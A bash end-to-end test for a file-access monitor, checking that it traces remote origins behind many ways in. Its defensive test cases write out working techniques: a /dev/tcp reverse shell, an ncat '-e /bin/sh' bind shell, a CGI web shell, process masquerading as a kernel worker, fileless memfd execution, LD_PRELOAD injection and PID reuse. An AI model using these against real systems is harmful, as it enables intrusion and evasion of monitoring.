#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Goal of this test: whoever comes from another machine is found behind every way in and every
# detour: other servers than sshd, shells on a port, a web shell, jump hosts and tunnels over
# loopback; and nothing that a process says of itself (name, arguments, number) hides who it is.
#
# vm: --vivid none --no-sound
# limit: 450
# paired

set -euo pipefail
cd "$(dirname "$0")/../.."
# shellcheck source=tests/vm/people.sh
. tests/vm/people.sh
# shellcheck source=tests/vm/recorders.sh
. tests/vm/recorders.sh
# shellcheck source=tests/e2e/lib.bash
. tests/e2e/lib.bash

CW_EVENT_LIMIT=30

write_policy() {
	cat >/run/policy.yaml <<-END
		version: 1
		assets:
		  footage: {kind: recordings, path: $RECORDINGS}
		grants:
		  - name: the recorder reads
		    allow: open
		    on: footage
		    to: {exe: /usr/bin/tac, origin: service}
	END
}

# A file of which one case only knows.
new_file() {
	FILE=$RECORDINGS/$1
	echo picture >"$FILE"
	mark_events
}

opened() {
	wait_event ".kind == \"open\" and .asset.path == \"$FILE\" and .process.pid != $$ and
		(.process.exe | endswith(\"/${1:-head}\"))"
}

in_office() {
	nsenter --net=/run/netns/office "$@"
}

# is_office EVENT PORT PROGRAM FILTER…: the office is behind it, at that port of the hub.
is_office() {
	local event=$1 port=$2 program=$3

	shift 3
	holds "$event" '.origin.type == "remote"' '.verdict.class == "remote"' \
		"(.origin.peer | startswith(\"$PEOPLE_OFFICE:\"))" ".origin.local_port == $port" \
		".origin.via | endswith(\"/$program\")" '.origin.outbound == null' "$@"
}

listens() {
	ss -Hltn "sport = :$1" | grep -q .
}

# serve UNIT PORT COMMAND…
serve() {
	local unit=$1 port=$2

	shift 2
	service_start "$unit" root "$@"
	wait_until 20 listens "$port" || fail "$1 does not listen: $(tail -n 3 "$PEOPLE/$unit.log")"
}

dropbear_server() {
	local event

	[[ -x /usr/sbin/dropbear ]] || skip_scenario "dropbear is not installed"
	dropbearkey -t ed25519 -f /run/dropbear.key >/dev/null 2>&1
	serve dropbear.service 2222 /usr/sbin/dropbear -F -E -r /run/dropbear.key \
		-p "$PEOPLE_HUB:2222" -P /run/dropbear.pid
	new_file dropbear
	in_office ssh -q -p 2222 -i "$PEOPLE/keys/alice" -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null "alice@$PEOPLE_HUB" "head -c 1 $FILE" >/dev/null
	event=$(opened)
	is_office "$event" 2222 dropbear '.process.user == "alice"' '.origin.hop == null'
}

# By the connection that it accepted, whatever the program is called.
renamed_sshd() {
	local event

	cp /usr/sbin/sshd /usr/local/sbin/updater
	sed "s/ListenAddress .*/ListenAddress $PEOPLE_HUB:2022/; s/sshd.pid/updater.pid/" \
		"$PEOPLE/sshd_config" >"$PEOPLE/updater_config"
	serve updater.service 2022 /usr/local/sbin/updater -D -f "$PEOPLE/updater_config"
	new_file renamed-sshd
	in_office ssh -q -p 2022 -i "$PEOPLE/keys/alice" -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null "alice@$PEOPLE_HUB" "head -c 1 $FILE" >/dev/null
	event=$(opened)
	# PAM knows no such service, so the kernel has no login for it; whom it let in is known.
	is_office "$event" 2022 updater '.process.user == "alice"' '.origin.hop == null'
}

telnet_shell() {
	local event

	new_file telnet
	serve telnet.service 2323 /bin/busybox telnetd -F -b "$PEOPLE_HUB:2323" -l /bin/sh
	{ echo "head -c 1 $FILE; exit"; cat; } < <(tail -f /dev/null --pid=$$) 2>/dev/null |
		in_office timeout 20 ncat "$PEOPLE_HUB" 2323 >/dev/null 2>&1 &
	event=$(opened)
	kill %% 2>/dev/null || true
	is_office "$event" 2323 busybox '.origin.tty | startswith("pts/")'
}

netcat_shell() {
	local event

	serve netcat.service 2424 ncat -l -k -e /bin/sh 2424
	new_file netcat
	echo "head -c 1 $FILE" | in_office ncat "$PEOPLE_HUB" 2424 >/dev/null
	event=$(opened)
	is_office "$event" 2424 ncat
}

reverse_shell() {
	local event

	new_file reverse
	echo "head -c 1 $FILE" | in_office timeout 30 ncat -l "$PEOPLE_OFFICE" 4444 >/dev/null &
	wait_until 20 in_office sh -c 'ss -Hltn "sport = :4444" | grep -q .'
	service_start agent.service root bash -c "exec sh -i >& /dev/tcp/$PEOPLE_OFFICE/4444 0>&1"
	event=$(opened)
	holds "$event" '.verdict.class == "remote"' ".origin.peer == \"$PEOPLE_OFFICE:4444\"" \
		'.origin.outbound == true' '.process.unit == "agent.service"'
}

web_server() {
	mkdir -p /run/www/cgi-bin
	cat >/run/www/cgi-bin/shell <<-'END'
		#!/bin/sh
		printf 'Content-Type: text/plain\r\n\r\n'
		head -c 1 "$QUERY_STRING"
	END
	chmod 755 /run/www/cgi-bin/shell
	serve web.service 8080 /bin/busybox httpd -f -p 8080 -h /run/www
}

web_shell() {
	local event

	web_server
	new_file web
	in_office busybox wget -q -O /dev/null "http://$PEOPLE_HUB:8080/cgi-bin/shell?$FILE"
	event=$(opened)
	is_office "$event" 8080 busybox '.origin.hop == null' '.process.unit == "web.service"'
}

# alice_ssh OPTION…: without a command, with what forwards.
alice_ssh() {
	in_office ssh -q -i "$PEOPLE/keys/alice" -o UserKnownHostsFile="$PEOPLE/known_hosts" \
		-o BatchMode=yes -o ExitOnForwardFailure=yes "$@"
}

local_forward() {
	local event

	new_file local-forward
	alice_ssh -f -N -L 9000:127.0.0.1:8080 "alice@$PEOPLE_HUB"
	in_office busybox wget -q -O /dev/null "http://127.0.0.1:9000/cgi-bin/shell?$FILE"
	event=$(opened)
	# The web server sees 127.0.0.1; it is alice's sshd that called it.
	is_office "$event" 22 sshd '.origin.hop.exe | endswith("/sshd")' \
		'.origin.hop.login_user == "alice"' '.process.unit == "web.service"'
	in_office pkill -f 'ssh -q .* -L 9000' || true
}

jump_host() {
	local event

	new_file jump
	in_office ssh -q -F /dev/null -i "$PEOPLE/keys/bob" -o BatchMode=yes \
		-o UserKnownHostsFile="$PEOPLE/known_hosts" -o "ProxyCommand=ssh -q \
		-i $PEOPLE/keys/alice -o UserKnownHostsFile=$PEOPLE/known_hosts -o BatchMode=yes \
		-W $PEOPLE_HUB:22 alice@$PEOPLE_HUB" "bob@$PEOPLE_HUB" "head -c 1 $FILE" >/dev/null
	event=$(opened)
	is_office "$event" 22 sshd '.origin.login_user == "bob"' \
		'.origin.hop.login_user == "alice"' '.origin.hop.exe | endswith("/sshd")'
}

# The other way round: alice opens a tunnel from the hub to the office, and the office comes in by it.
remote_forward() {
	local event

	new_file remote-forward
	sed "s/ListenAddress .*/ListenAddress $PEOPLE_OFFICE/; s/sshd.pid/office.pid/" \
		"$PEOPLE/sshd_config" >"$PEOPLE/office_config"
	in_office env -i PATH="$PATH" /usr/sbin/sshd -f "$PEOPLE/office_config"
	printf '%s %s\n' "$PEOPLE_OFFICE" "$(<"$PEOPLE/host_key.pub")" >>"$PEOPLE/known_hosts"
	service_start tunnel.service root ssh -q -N -i "$PEOPLE/keys/alice" -o BatchMode=yes \
		-o UserKnownHostsFile="$PEOPLE/known_hosts" -R 9001:127.0.0.1:2424 \
		"alice@$PEOPLE_OFFICE"
	wait_until 30 in_office sh -c 'ss -Hltn "sport = :9001" | grep -q .'
	echo "head -c 1 $FILE" | in_office ncat 127.0.0.1 9001 >/dev/null
	event=$(opened)
	holds "$event" '.verdict.class == "remote"' ".origin.peer == \"$PEOPLE_OFFICE:22\"" \
		'.origin.outbound == true' '.origin.hop.exe | endswith("/ssh")' \
		'.process.unit == "netcat.service"'
}

# Somebody at the console who takes the detour of a local port is still that person.
over_loopback() {
	local event

	new_file loopback
	console_as alice "echo 'head -c 1 $FILE' | ncat 127.0.0.1 2424" >/dev/null
	event=$(opened)
	holds "$event" '.origin.type == "login"' '.verdict.class == "employee"' \
		'.origin.hop.login_user == "alice"' '.origin.login_user == null'
}

next_login() {
	local event

	new_file next-login
	ssh_as alice 'tmux -L left new-session -d; echo up' >/dev/null
	ssh_as alice "tmux -L left send-keys 'head -c 1 $FILE' Enter" >/dev/null
	event=$(opened)
	is_office "$event" 22 sshd '.origin.login_user == "alice"' \
		'.process.ancestors | any(.exe | endswith("/tmux"))'
	ssh_as alice 'tmux -L left kill-server' || true
}

new_names() {
	local event

	new_file new-names
	ssh_as alice "exec -a '[kworker/0:1]' perl -e '\$0 = \"/usr/bin/motion\"; open F, \"$FILE\"'"
	event=$(opened perl)
	is_office "$event" 22 sshd '.process.exe == "/usr/bin/perl"' \
		'.process.exe_sha256 | length == 64' '.origin.login_user == "alice"'
}

interpreter() {
	local event

	new_file interpreter
	ssh_as alice "perl -e 'open F, \"$FILE\"; print scalar <F>'" >/dev/null
	event=$(opened perl)
	is_office "$event" 22 sshd '.process.argv | any(contains("open F"))'
}

no_file() {
	local event memfd_create=319

	[[ $(uname -m) != aarch64 ]] || memfd_create=279
	new_file memfd
	# A program that never had a file: its image is in memory only, so it is read while it lives.
	ssh_as alice "sleep 2 | perl -e '
		my \$fd = syscall($memfd_create, my \$n = \"camera\", 0); open(my \$m, \">&=\", \$fd);
		open(my \$h, \"<\", \"/usr/bin/cat\"); binmode \$h; local \$/; print {\$m} <\$h>;
		\$m->flush; exec {\"/proc/\$\$/fd/\$fd\"} \"cat\", \"$FILE\", \"-\"'" >/dev/null
	event=$(wait_event ".kind == \"open\" and .asset.path == \"$FILE\" and .process.pid != $$")
	is_office "$event" 22 sshd '.process.exe | test("memfd:camera")' '.process.exe_deleted' \
		'.process.exe_sha256 | length == 64'
}

# What a user mounts in a namespace of his own has whatever path he likes.
own_namespace() {
	local event

	new_file namespace
	ssh_as alice "cp /usr/bin/head ~/tac; unshare -Urm sh -c \
		'mount --bind ~/tac /usr/bin/tac && exec /usr/bin/tac -c 1 $FILE'" >/dev/null
	event=$(wait_event ".kind == \"open\" and .asset.path == \"$FILE\" and .process.comm == \"tac\"")
	is_office "$event" 22 sshd '.process.exe == "…/usr/bin/tac"' \
		'.verdict.why | contains("executable …/usr/bin/tac")'
}

# A granted program in the hands of a person is not granted: its origin is another.
granted_program() {
	local event

	new_file granted
	ssh_as alice "tac $FILE" >/dev/null
	event=$(opened tac)
	is_office "$event" 22 sshd '.verdict.why | contains("origin remote is not service")'
	new_file granted-service
	service_start reader.service root /usr/bin/tac "$FILE"
	event=$(opened tac)
	holds "$event" '.verdict.decision == "allow"' '.origin.type == "service"'
}

# The program and its unit are granted, what it runs is not.
preloaded_program() {
	local event library holder said

	library=/home/alice/x.so
	cp "$(ldd /usr/bin/tac | awk '/libc\.so/ { print $3 }')" "$library"
	chown alice: "$library"
	new_file preloaded
	service_start reader.service root env LD_PRELOAD="$library" /usr/bin/tac "$FILE"
	event=$(opened tac)
	holds "$event" '.origin.type == "service"' '.verdict.decision == "flag"' \
		".process.code == {\"how\": \"mapped\", \"path\": \"$library\", \"why\": \"owner\",
			\"pid\": .process.pid}" \
		".verdict.why | contains(\"it runs code of $library, which is not root's\")"
	# Who holds it now, asked from outside, is told with the same.
	env LD_PRELOAD="$library" tail -f "$FILE" >/dev/null &
	holder=$!
	opened tail >/dev/null
	holds "$("$CAMWARDEN" who --policy /run/policy.yaml --format json |
		jq -c "select(.process.pid == $holder)")" ".process.code.path == \"$library\"" \
		'.process.code.why == "owner"'
	said=$("$CAMWARDEN" who --policy /run/policy.yaml | grep -F "tail[$holder]") || true
	kill "$holder"
	[[ $said == *"it runs code of $library, which is not root's"* ]]
}

# The name stays, the program is another: known by its inode and hash.
replaced_program() {
	local event

	cp /usr/bin/tac /usr/bin/tac.was
	cp /usr/bin/head /usr/bin/tac.new
	mv /usr/bin/tac.new /usr/bin/tac
	new_file replaced
	service_start reader.service root /usr/bin/tac -c 1 "$FILE"
	event=$(opened tac)
	holds "$event" ".process.exe_sha256 == \"$(sha256sum /usr/bin/head | cut -d ' ' -f 1)\""
	mv /usr/bin/tac.was /usr/bin/tac
}

# What runs on is the program that was granted, whatever has its name by now.
replaced_while_running() {
	local event was

	was=$(sha256sum /usr/bin/tac | cut -d ' ' -f 1)
	mkfifo /run/wait /run/end
	new_file replaced-running
	# It runs on until the event is here: the file of one that has ended can only be looked for by
	# its path, where another stands now.
	service_start reader.service root /usr/bin/tac /run/wait "$FILE" /run/end
	exec 9>/run/wait
	cp /usr/bin/tac /usr/bin/tac.was
	cp /usr/bin/head /usr/bin/tac.new
	mv /usr/bin/tac.new /usr/bin/tac
	exec 9>&-
	event=$(wait_event ".kind == \"open\" and .asset.path == \"$FILE\" and .process.comm == \"tac\"")
	: >/run/end
	mv /usr/bin/tac.was /usr/bin/tac
	holds "$event" ".process.exe_sha256 == \"$was\"" '.verdict.decision == "allow"'
}

# A number that alice's process had goes to a service.
pid_again() {
	local event pid

	new_file pid-of-alice
	ssh_as alice "head -c 1 $FILE" >/dev/null
	event=$(opened)
	is_office "$event" 22 sshd
	pid=$(jq .process.pid <<<"$event")
	wait_event ".kind == \"close\" and .process.pid == $pid" >/dev/null
	new_file pid-again
	# shellcheck disable=SC2016 # of the inner shell
	service_start again.service root bash -c '
		for n in 1 2 3 4 5 6 7 8 9; do
			echo $(($1 - 1)) >/proc/sys/kernel/ns_last_pid
			head -c 1 "$2" & [[ $! == "$1" ]] && exit
			wait
		done' _ "$pid" "$FILE"
	event=$(wait_event ".kind == \"open\" and .asset.path == \"$FILE\" and .process.pid == $pid")
	holds "$event" '.origin.type == "service"' '.origin.login_user == null' \
		'.origin.peer == null' '.process.unit == "again.service"'
}

people_setup alice bob
network_setup
ip link set lo up
sshd_start
recordings_setup
write_policy
cw_start --policy /run/policy.yaml "$@" || echo "# goes on, to show what fails"
scenario "dropbear" dropbear_server
scenario "an sshd by another name" renamed_sshd
scenario "a shell by telnet" telnet_shell
scenario "a shell on a port" netcat_shell
scenario "a reverse shell" reverse_shell
scenario "a web shell under an HTTP server" web_shell
scenario "ssh -L: what comes out of the tunnel is the office" local_forward
scenario "a jump host: bob, by way of alice" jump_host
scenario "ssh -R: what comes back through it is the far end" remote_forward
scenario "over a local port it is still the person at the console" over_loopback
scenario "a tmux that was left running for the next login" next_login
scenario "another name and other arguments" new_names
scenario "an interpreter as proxy" interpreter
scenario "a program without a file" no_file
scenario "a granted path in a mount namespace of his own" own_namespace
scenario "a granted program in the hands of a person" granted_program
scenario "a granted program with a library of alice's" preloaded_program
scenario "a granted program that was replaced" replaced_program
scenario "a granted program that is replaced while it runs" replaced_while_running
scenario "a process number that is used again" pid_again
stop_camwarden
scenarios_done
